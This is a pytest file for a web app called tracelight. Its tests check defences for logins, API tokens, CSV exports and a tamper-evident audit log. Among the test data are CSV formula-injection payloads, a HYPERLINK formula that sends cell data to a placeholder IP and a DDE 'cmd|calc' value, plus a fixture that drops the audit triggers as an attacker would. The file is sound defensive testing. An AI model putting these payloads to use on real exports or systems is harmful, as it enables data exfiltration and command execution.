"""Issue 10, logins, credentials, audit and exports: each attack tried against the real app (ASGI
client, in process) and the CLI, and refused.

Findings covered: unbounded login fields filling the database; a stranger locking the admin out;
refused attempts flooding the audit log; formula injection in every CSV; password changes that
left other sessions and tokens alive; tokens that never expire and cannot be revoked one by one;
the one-time password that need not be changed; an audit log whose rows can be deleted unnoticed
once a trigger is dropped; and the events that were never audited.
"""

from __future__ import annotations

import csv
import io
import json
import re
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from tracelight.cli.main import cli
from tracelight.errors import StoreError
from tracelight.records import AdRecord, ProcessedAd
from tracelight.report.csvsafe import FORMULA_PREFIXES, neutralise, unneutralise
from tracelight.store import open_store
from tracelight.store.accounts import Accounts
from tracelight.store.audit import AuditLog
from tracelight.web import create_demo_admin
from tracelight.web.app import create_app
from tracelight.web.auth import hash_password
from tracelight.web.throttle import AuditThrottle, LoginLimiter
from web_helpers import PASSWORD, build_store, csrf, login, login_token

FORM = {"content-type": "application/x-www-form-urlencoded"}
ATTACKER = ("203.0.113.66", 40000)  # TEST-NET-3: documentation addresses only
ADMIN_DESK = ("198.51.100.7", 40001)


class Clock:
    """A hand-moved clock for the limiter: no sleeping, no timed assertions."""

    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory,
        demo_corpus_dir: Path) -> Iterator[tuple[Any, Path]]:
    tmp = tmp_path_factory.mktemp("websec")
    store = build_store(tmp, demo_corpus_dir)
    yield store, tmp
    store.close()


def new_app(env: tuple[Any, Path], clock: Clock | None = None,
            limiter: LoginLimiter | None = None) -> Any:
    store, tmp = env
    limiter = limiter or (LoginLimiter(clock=clock) if clock else LoginLimiter())
    return create_app(store, image_dir=str(tmp / "images"), secret_key="test-secret",
                      limiter=limiter)


def client(app: Any, address: tuple[str, int] = ("testclient", 50000)) -> TestClient:
    return TestClient(app, client=address)


def audit_rows(store: Any, **filters: Any) -> list[dict[str, Any]]:
    return list(Accounts(store).iter_audit(**filters))


def rows_from(store: Any, ip: str) -> list[dict[str, Any]]:
    return [r for r in audit_rows(store) if r["ip"] == ip]


# ---- unauthenticated: field sizes and the audit log ----------------------------------------

def test_megabyte_user_names_are_refused_before_anything_is_written(
        env: tuple[Any, Path]) -> None:
    store, tmp = env
    c = client(new_app(env), ("203.0.113.10", 1))
    db_file = tmp / "web.db"
    before = db_file.stat().st_size + Path(f"{db_file}-wal").stat().st_size
    huge = "A" * 1_000_000
    for _ in range(20):
        token = login_token(c)
        r = c.post("/login", data={"username": huge, "password": "x", "csrf_token": token},
                   follow_redirects=False)
        assert r.status_code == 413
    # without a Content-Length (chunked), the body is cut off at the cap just the same
    chunks = (b"username=" + b"B" * 65536 for _ in range(16))
    r = c.post("/login", content=chunks, headers=FORM, follow_redirects=False)
    assert r.status_code == 413
    rows = rows_from(store, "203.0.113.10")
    assert len(rows) == 11  # 21 refusals: the first 10, then only the 16th (with its count)
    assert all(len(json.dumps(r, default=str)) < 1000 for r in rows)
    after = db_file.stat().st_size + Path(f"{db_file}-wal").stat().st_size
    assert after - before < 2_000_000  # was +104 MB for 100 such attempts


def test_overlong_fields_under_the_body_cap_are_refused_and_truncated_in_the_audit(
        env: tuple[Any, Path]) -> None:
    store, _tmp = env
    c = client(new_app(env), ("203.0.113.11", 1))
    token = login_token(c)
    r = c.post("/login", data={"username": "n" * 5000, "password": "x", "csrf_token": token},
               follow_redirects=False)
    assert r.status_code == 400
    token = login_token(c)
    r = c.post("/login", data={"username": "bo", "password": "p" * 2000, "csrf_token": token},
               follow_redirects=False)
    assert r.status_code == 400
    rows = rows_from(store, "203.0.113.11")
    assert [r["action"] for r in rows] == ["login.refused", "login.refused"]
    assert rows[0]["username"] == "?" and rows[0]["detail"]["name_length"] == 5000
    assert len(rows[0]["detail"]["name_start"]) == 32


def test_refused_attempts_are_audited_in_a_bounded_way(env: tuple[Any, Path]) -> None:
    store, _tmp = env
    no_delay = LoginLimiter(free_per_name=10**6, free_per_ip=10**6)  # each one a real failure
    c = client(new_app(env, limiter=no_delay), ("203.0.113.12", 1))
    codes = {login(c, f"guess{i % 7}", "wrong password").status_code for i in range(140)}
    assert codes == {401}
    rows = rows_from(store, "203.0.113.12")
    # 10 single rows, then the 16th, 32nd, 64th and 128th with their counts
    assert [r["action"] for r in rows] == ["login.failed"] * 14
    assert [r["detail"]["attempts_from_address"] for r in rows[10:]] == [16, 32, 64, 128]


def test_audit_throttle_bounds_many_addresses_too() -> None:
    clock = Clock()
    t = AuditThrottle(burst=10, global_burst=50, clock=clock)
    written = summaries = 0
    for i in range(5000):
        single, summary = t.admit(f"10.0.{i // 250}.{i % 250}")
        written += single is not None
        summaries += summary is not None
    assert written == 50 and summaries == 7  # 64, 128, ..., 4096
    clock.now += 901  # a new window: single rows again
    assert t.admit("10.0.0.1") == (1, None)


# ---- unauthenticated: nobody can lock an account ---------------------------------------------

def test_a_stranger_cannot_lock_the_admin_out(env: tuple[Any, Path]) -> None:
    clock = Clock()
    app = new_app(env, clock)
    admin = client(app, ADMIN_DESK)
    assert login(admin, "ana").status_code == 303  # this browser now carries a device cookie
    admin.post("/logout", data={"csrf_token": csrf(admin)})
    attacker = client(app, ATTACKER)
    statuses = []
    for _ in range(60):
        statuses.append(login(attacker, "ana", "guess guess guess").status_code)
        clock.now += 0.5
    assert statuses[:5] == [401] * 5 and 429 in statuses
    refused = attacker.post("/login", data={"username": "ana", "password": PASSWORD,
                                            "csrf_token": login_token(attacker)},
                            follow_redirects=False)
    assert refused.status_code == 429 and int(refused.headers["retry-after"]) >= 1
    # the admin's own browser is not slowed by the stranger's failures
    assert login(admin, "ana").status_code == 303
    # a new browser of the admin's waits (a delay, never a lock) and then gets in
    fresh = client(app, ("198.51.100.8", 1))
    assert login(fresh, "ana").status_code == 429
    clock.now += 301
    assert login(fresh, "ana").status_code == 303


def test_delays_grow_exponentially_and_are_forgotten() -> None:
    clock = Clock()
    lim = LoginLimiter(free_per_name=3, free_per_ip=100, clock=clock)
    waits = []
    for _ in range(12):
        lim.failed("192.0.2.1", "ana")
        waits.append(lim.wait_s("192.0.2.1", "ana"))
    assert waits[:2] == [0, 0] and waits[2:8] == [1, 2, 4, 8, 16, 32]
    assert max(waits) == 300  # capped: a delay, never a lock
    assert lim.wait_s("192.0.2.1", "ana", trusted=True) == 0  # the user's own browser
    clock.now += 300 + 900 + 1
    assert lim.wait_s("192.0.2.1", "ana") == 0
    lim.failed("192.0.2.1", "ana")
    assert lim.wait_s("192.0.2.1", "ana") == 0  # counting starts again


def test_one_address_guessing_many_names_is_slowed(env: tuple[Any, Path]) -> None:
    clock = Clock()
    c = client(new_app(env, clock), ("203.0.113.13", 1))
    codes = [login(c, f"user{i}", "wrong password").status_code for i in range(22)]
    assert codes[:20] == [401] * 20 and codes[21] == 429


def test_limiter_memory_is_bounded() -> None:
    lim = LoginLimiter(max_keys=1000)
    for i in range(5000):
        lim.failed(f"10.1.{i // 250}.{i % 250}", f"name{i}")
    assert len(lim._counters) <= 1000


# ---- credentials --------------------------------------------------------------------------------

def test_password_change_ends_other_sessions_and_every_token(env: tuple[Any, Path]) -> None:
    store, _tmp = env
    app = new_app(env)
    accounts = Accounts(store)
    accounts.add_user("fay", hash_password("fay's first password"), "analyst")
    laptop, phone = client(app), client(app)
    assert login(laptop, "fay", "fay's first password").status_code == 303
    assert login(phone, "fay", "fay's first password").status_code == 303
    tokens = [accounts.create_token("fay", "one"), accounts.create_token("fay", "two")]
    for t in tokens:
        assert phone.get("/api/me", headers={"Authorization": f"Bearer {t}"}).status_code == 200
    r = laptop.post("/account/password", data={
        "csrf_token": csrf(laptop, "/account"), "current": "fay's first password",
        "new": "fay's second password", "repeat": "fay's second password"})
    assert r.status_code == 200 and "1 other session logged out" in r.text
    assert "2 api tokens revoked" in r.text.lower()
    assert phone.get("/queue", follow_redirects=False).status_code == 303  # logged out
    for t in tokens:
        assert client(app).get("/api/me",
                               headers={"Authorization": f"Bearer {t}"}).status_code == 401
    assert laptop.get("/queue").status_code == 200  # the session that changed it stays
    assert login(client(app), "fay", "fay's first password").status_code == 401
    row = audit_rows(store, action="user.password_changed", username="fay")[-1]
    assert row["detail"] == {"other_sessions_ended": 1, "tokens_revoked": 2}


def test_tokens_expire(env: tuple[Any, Path]) -> None:
    store, _tmp = env
    accounts = Accounts(store)
    token = accounts.create_token("cy", "integration", days=1)
    info = accounts.list_tokens("cy")[-1]
    assert (info.expires_at - info.created_at).days == 1 and info.status == "active"
    token90 = accounts.create_token("cy")
    info90 = accounts.list_tokens("cy")[-1]
    assert (info90.expires_at - info90.created_at).days == 90
    c = client(new_app(env))
    assert c.get("/api/me", headers={"Authorization": f"Bearer {token}"}).status_code == 200
    with store.transaction() as conn:  # a day later
        conn.execute(sa.text("UPDATE api_tokens SET expires_at = created_at WHERE pk = :pk"),
                     {"pk": info.id})
    # the edit stands in for a day passing: a cached token keeps the expiry it was read with
    # (checked on every hit), which this edit moved behind its back; forget what was cached
    store.__dict__.pop("_token_cache", None)
    assert c.get("/api/me", headers={"Authorization": f"Bearer {token}"}).status_code == 401
    assert c.get("/api/me", headers={"Authorization": f"Bearer {token90}"}).status_code == 200
    assert accounts.list_tokens("cy")[-2].status == "expired"


def test_account_page_lists_and_revokes_tokens_one_by_one(env: tuple[Any, Path]) -> None:
    store, _tmp = env
    app = new_app(env)
    accounts = Accounts(store)
    accounts.add_user("gus", hash_password(PASSWORD), "viewer")
    keep, drop = accounts.create_token("gus", "keep me"), accounts.create_token("gus", "drop me")
    ids = {t.label: t.id for t in accounts.list_tokens("gus")}
    other = accounts.create_token("bo", "bo's own")
    other_id = accounts.list_tokens("bo")[-1].id
    c = client(app)
    assert login(c, "gus").status_code == 303
    page = c.get("/account").text
    assert "keep me" in page and "drop me" in page and "bo&#39;s own" not in page
    token = csrf(c, "/account")
    r = c.post(f"/account/tokens/{ids['drop me']}/revoke", data={"csrf_token": token})
    assert r.status_code == 200 and f"Token {ids['drop me']} revoked" in r.text
    auth = {"Authorization": f"Bearer {drop}"}
    assert client(app).get("/api/me", headers=auth).status_code == 401
    assert client(app).get("/api/me",
                           headers={"Authorization": f"Bearer {keep}"}).status_code == 200
    # another user's token cannot be revoked from this account
    assert c.post(f"/account/tokens/{other_id}/revoke",
                  data={"csrf_token": token}).status_code == 404
    assert client(app).get("/api/me",
                           headers={"Authorization": f"Bearer {other}"}).status_code == 200
    assert audit_rows(store, action="token.revoke", username="gus")


def _walk(routes: Any) -> Iterator[Any]:
    for route in routes:
        inner = getattr(route, "original_router", None)  # FastAPI wraps included routers
        if inner is not None:
            yield from _walk(inner.routes)
        else:
            yield route


def _routes(app: Any) -> list[tuple[str, str]]:
    out = []
    for route in _walk(app.routes):
        for method in getattr(route, "methods", None) or ():
            if method in ("HEAD", "OPTIONS") or route.path.startswith("/static"):
                continue
            out.append((method, route.path))
    return out


def test_one_time_password_must_be_changed_before_any_route_works(
        env: tuple[Any, Path]) -> None:
    store, _tmp = env
    app = new_app(env)
    name, password = create_demo_admin(store, "demo2")
    token = Accounts(store).create_token(name)
    c = client(app)
    assert login(c, name, password).headers["location"] == "/account"
    checked = 0
    for method, path in _routes(app):
        if path in ("/healthz", "/login", "/logout", "/account", "/account/password"):
            continue
        concrete = (path.replace("{pk}", "1").replace("{position}", "0")
                    .replace("{item_pk}", "1").replace("{token_id}", "1")
                    .replace("{ad_id}", "ad-0000001").replace("{network_id}", "1"))
        r = c.request(method, concrete, follow_redirects=False)
        if path.startswith("/api/"):
            assert r.status_code == 403, (method, path, r.status_code)
            assert "one-time password" in r.json()["detail"]
            r = client(app).request(method, concrete, follow_redirects=False,
                                    headers={"Authorization": f"Bearer {token}"})
            assert r.status_code == 403, (method, path, "token", r.status_code)
        else:
            assert r.status_code == 303 and r.headers["location"] == "/account", (method, path)
        checked += 1
    assert checked > 30
    assert audit_rows(store, action="access.denied", username=name)
    r = c.post("/account/password", data={"csrf_token": csrf(c, "/account"),
                                          "current": password, "new": "my own passphrase",
                                          "repeat": "my own passphrase"})
    assert "Password changed" in r.text
    assert c.get("/audit").status_code == 200
    # the token made under the one-time password was revoked by the change
    assert client(app).get("/api/me",
                           headers={"Authorization": f"Bearer {token}"}).status_code == 401


# ---- exports ---------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://203.0.113.9/?"&A2,"see photos")'


def test_case_csv_neutralises_formula_cells(env: tuple[Any, Path]) -> None:
    store, _tmp = env
    store.write_batch(None, [ProcessedAd(AdRecord(id="csv-1", source="board-q", title=HOSTILE,
                                                  body="@SUM(1+1) call me",
                                                  location="+cmd|' /C calc'!A0"))])
    pk = store.get_ad("csv-1").pk
    c = client(new_app(env))
    login(c, "bo")
    h = {"X-CSRF-Token": csrf(c)}
    case = c.post("/api/cases", json={"title": "-2+3 formula check"}, headers=h).json()
    c.post(f"/api/cases/{case['id']}/items", json={"kind": "ad", "ref": str(pk)}, headers=h)
    c.post(f"/api/cases/{case['id']}/items",
           json={"kind": "identifier", "ref": "phone:+12065550143", "label": "-1+1"}, headers=h)
    data = c.get(f"/cases/{case['id']}/export").content
    rows = list(csv.DictReader(io.StringIO(
        zipfile.ZipFile(io.BytesIO(data)).read("case.csv").decode())))
    ad_row = next(r for r in rows if r["ad_id"] == "csv-1")
    assert ad_row["title"] == "'" + HOSTILE
    assert ad_row["location"].startswith("'+")
    ident = next(r for r in rows if r["item"] == "identifier")
    assert ident["title"] == "'-1+1" and ident["identifiers"] == "phone:+12065550143"
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_PREFIXES) or re.fullmatch(r"[+-]?[\d.]+", value)


def test_audit_csv_web_and_cli_neutralise_formula_cells(env: tuple[Any, Path]) -> None:
    store, _tmp = env
    c = client(new_app(env))
    login(c, "ana")
    c.get("/search", params={"kind": "q", "q": "Bella", "reason": HOSTILE})
    for url in ("/audit/export", "/api/audit/export"):
        rows = list(csv.DictReader(io.StringIO(c.get(url, params={"format": "csv"}).text)))
        assert "'" + HOSTILE in [r["reason"] for r in rows]
        assert all(not r["reason"].startswith("=") for r in rows)
    r = CliRunner().invoke(cli, ["audit", "--format", "csv", "--db", store.url])
    assert r.exit_code == 0
    reasons = [row["reason"] for row in csv.DictReader(io.StringIO(r.stdout))]
    assert "'" + HOSTILE in reasons and HOSTILE not in reasons


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r1.eE xA\uff1d"), max_size=12)
       | st.text(max_size=40))
def test_neutralise_never_leaves_a_formula_and_loses_nothing(value: str) -> None:
    out = neutralise(value)
    assert out in (value, "'" + value)
    assert unneutralise(out) == value
    if out.startswith(FORMULA_PREFIXES):
        float(out)  # only a plain number may still start with + or -


# ---- audit: hash chain, triggers, missing events --------------------------------------------

@pytest.fixture
def unprotect(store: Any) -> Iterator[Any]:
    """Drops the append-only triggers when called, as an attacker with database access would;
    puts them back afterwards (the PostgreSQL test database is shared between tests)."""

    def drop() -> None:
        with store.transaction() as conn:
            if store.engine.dialect.name == "sqlite":
                conn.execute(sa.text("DROP TRIGGER audit_log_no_delete"))
                conn.execute(sa.text("DROP TRIGGER audit_log_no_update"))
            else:
                conn.execute(sa.text("DROP TRIGGER audit_log_append_only ON audit_log"))

    yield drop
    AuditLog(store).install_protection()


def _verify(url: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    """`tracelight audit verify` through the real entry point: (exit status, output)."""
    from tracelight.cli.main import main
    capsys.readouterr()
    with pytest.raises(SystemExit) as exc:
        main(["audit", "verify", "--db", url])
    out = capsys.readouterr()
    return int(exc.value.code or 0), out.out + out.err


def test_deleting_rows_after_dropping_the_trigger_is_detected(
        store: Any, unprotect: Any, capsys: pytest.CaptureFixture[str]) -> None:
    accounts = Accounts(store)
    for i in range(6):
        accounts.audit("bo", "search", f"phone:+1206555014{i}", detail={"n": i, "f": 0.5})
    code, out = _verify(store.url, capsys)
    assert code == 0 and "intact: 6 entries" in out
    unprotect()
    with store.transaction() as conn:
        conn.execute(sa.text("DELETE FROM audit_log WHERE seq = 3"))
    code, out = _verify(store.url, capsys)
    assert code == 8
    assert "entry 4" in out and "entries 3..3 are missing" in out
    assert "trigger" in out  # the missing protection is named too


def test_edited_rows_and_a_cut_tail_are_detected(store: Any, unprotect: Any) -> None:
    accounts = Accounts(store)
    for i in range(5):
        accounts.audit("bo", "ad.view", f"board/ad-{i}")
    unprotect()
    with store.transaction() as conn:
        conn.execute(sa.text("UPDATE audit_log SET username = 'someone' WHERE seq = 2"))
    result = AuditLog(store).verify()
    assert result.broken is not None and result.broken.seq == 2
    assert "content changed" in result.broken.reason
    with store.transaction() as conn:
        conn.execute(sa.text("UPDATE audit_log SET username = 'bo' WHERE seq = 2"))
        conn.execute(sa.text("DELETE FROM audit_log WHERE seq >= 4"))
    result = AuditLog(store).verify()
    assert result.broken is not None and "newest entries removed" in result.broken.reason


def test_app_and_serve_refuse_to_start_without_the_triggers(
        store: Any, unprotect: Any, capsys: pytest.CaptureFixture[str]) -> None:
    Accounts(store).add_user("ana", hash_password(PASSWORD), "admin")
    create_app(store, secret_key="k")
    unprotect()
    with pytest.raises(StoreError, match="audit log is not protected"):
        create_app(store, secret_key="k")
    r = CliRunner().invoke(cli, ["serve", "--db", store.url])
    assert r.exit_code != 0 and "not protected" in str(r.exception)
    r = CliRunner().invoke(cli, ["audit", "protect", "--db", store.url])
    assert r.exit_code == 0
    create_app(store, secret_key="k")
    with pytest.raises(StoreError, match="append-only"), store.transaction() as conn:
        conn.execute(sa.text("DELETE FROM audit_log"))
    assert _verify(store.url, capsys)[0] == 0


def test_postgres_refuses_truncate_of_the_audit_log(store: Any) -> None:
    if store.engine.dialect.name != "postgresql":
        pytest.skip("row triggers cover SQLite (it has no TRUNCATE)")
    Accounts(store).audit("bo", "search", "q:x")
    with pytest.raises(StoreError, match="append-only"), store.transaction() as conn:
        conn.execute(sa.text("TRUNCATE audit_log"))


def test_concurrent_writers_keep_one_chain(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'chain.db'}"
    open_store(url).close()

    def write(n: int) -> None:
        s = open_store(url)
        for i in range(15):
            Accounts(s).audit(f"user{n}", "ad.view", f"ad {i}")
        s.close()

    threads = [threading.Thread(target=write, args=(n,)) for n in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    result = AuditLog(open_store(url)).verify()
    assert result.ok and result.entries == 90 and result.head_seq == 90


def test_migration_chains_existing_entries_and_dates_old_tokens(db_url: str) -> None:
    from alembic import command

    from tracelight.store import db
    engine = db.make_engine(db_url)
    with engine.begin() as conn:  # a database as tracelight left it before 0005
        command.upgrade(db._alembic_config(conn), "heads")
    with engine.begin() as conn:
        command.downgrade(db._alembic_config(conn), "0004")
    with engine.begin() as conn:
        conn.execute(sa.text(
            "INSERT INTO users (username, password_hash, role, disabled, must_change_password, "
            "created_at) VALUES ('old', 'x', 'analyst', false, false, '2026-01-01 10:00:00')"))
        conn.execute(sa.text(
            "INSERT INTO api_tokens (user_pk, token_hash, label, created_at, revoked) "
            "VALUES (1, 'h', 'old token', '2026-01-01 10:00:00', false)"))
        for i in range(4):
            conn.execute(sa.text(
                "INSERT INTO audit_log (at, username, action, target, detail) VALUES "
                f"('2026-01-0{i + 1} 10:00:00.123456', 'old', 'search', 'q:{i}', "
                "'{\"k\": [1, 2.5, \"é\"]}')"))
    engine.dispose()
    store = open_store(db_url)
    result = AuditLog(store).verify()
    assert result.ok and result.entries == 4
    Accounts(store).audit("new", "login")
    assert AuditLog(store).verify().entries == 5 and AuditLog(store).verify().ok
    token = Accounts(store).list_tokens("old")[0]
    assert (token.expires_at - token.created_at).days == 90 and token.status == "expired"
    store.close()


def test_missing_events_are_audited(env: tuple[Any, Path], tmp_path: Path) -> None:
    store, _tmp = env
    app = new_app(env)
    viewer, analyst = client(app), client(app)
    login(viewer, "cy")
    login(analyst, "bo")
    assert viewer.get("/audit").status_code == 403
    assert viewer.get("/api/cases/1/export").status_code in (403, 404)
    with_image = next(pk for pk in range(1, 500) if store.images_for(pk))
    assert viewer.get(f"/ads/{with_image}/images/0/blurred").status_code == 200
    analyst.get("/cases")
    analyst.get("/api/cases")
    analyst.get("/networks")
    analyst.get("/api/networks")
    denied = audit_rows(store, action="access.denied", username="cy")
    assert any(r["target"] == "/audit" for r in denied)
    assert audit_rows(store, action="image.thumbnail", username="cy")
    assert len(audit_rows(store, action="case.list", username="bo")) >= 2
    assert len(audit_rows(store, action="network.list", username="bo")) >= 2
    bank = tmp_path / "bank.txt"
    bank.write_text("0" * 64 + ",test entry\n")
    runner = CliRunner()
    assert runner.invoke(cli, ["bank", "import", "known", str(bank), "--db",
                               store.url]).exit_code == 0
    assert runner.invoke(cli, ["bank", "delete", "known", "--yes", "--db",
                               store.url]).exit_code == 0
    actions = [r["action"] for r in audit_rows(store, action="bank.")]
    assert actions[-2:] == ["bank.import", "bank.delete"]
    assert audit_rows(store, action="bank.import")[-1]["detail"]["added"] == 1


def test_token_cli_lists_and_revokes(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'tok.db'}"
    runner = CliRunner()
    runner.invoke(cli, ["user", "add", "ana", "--role", "admin", "--password-stdin", "--db", url],
                  input="a long enough password\n")
    first = runner.invoke(cli, ["token", "create", "ana", "--label", "sync", "--db", url])
    second = runner.invoke(cli, ["token", "create", "ana", "--days", "7", "--db", url])
    assert first.exit_code == 0 and second.exit_code == 0
    r = runner.invoke(cli, ["token", "list", "ana", "--format", "jsonl", "--db", url])
    listed = [json.loads(line) for line in r.stdout.splitlines()]
    assert [t["label"] for t in listed] == ["sync", ""]
    assert all(t["status"] == "active" for t in listed)
    assert first.stdout.strip() not in r.stdout  # never the token itself
    assert runner.invoke(cli, ["token", "revoke", str(listed[0]["id"]), "--db",
                               url]).exit_code == 0
    accounts = Accounts(open_store(url))
    assert accounts.user_for_token(first.stdout.strip()) is None
    assert accounts.user_for_token(second.stdout.strip()) is not None
    r = runner.invoke(cli, ["token", "revoke", "999", "--db", url])
    assert r.exit_code != 0
    r = runner.invoke(cli, ["token", "list", "nobody", "--db", url])
    assert r.exit_code != 0
    assert runner.invoke(cli, ["token", "create", "ana", "--days", "0", "--db",
                               url]).exit_code != 0
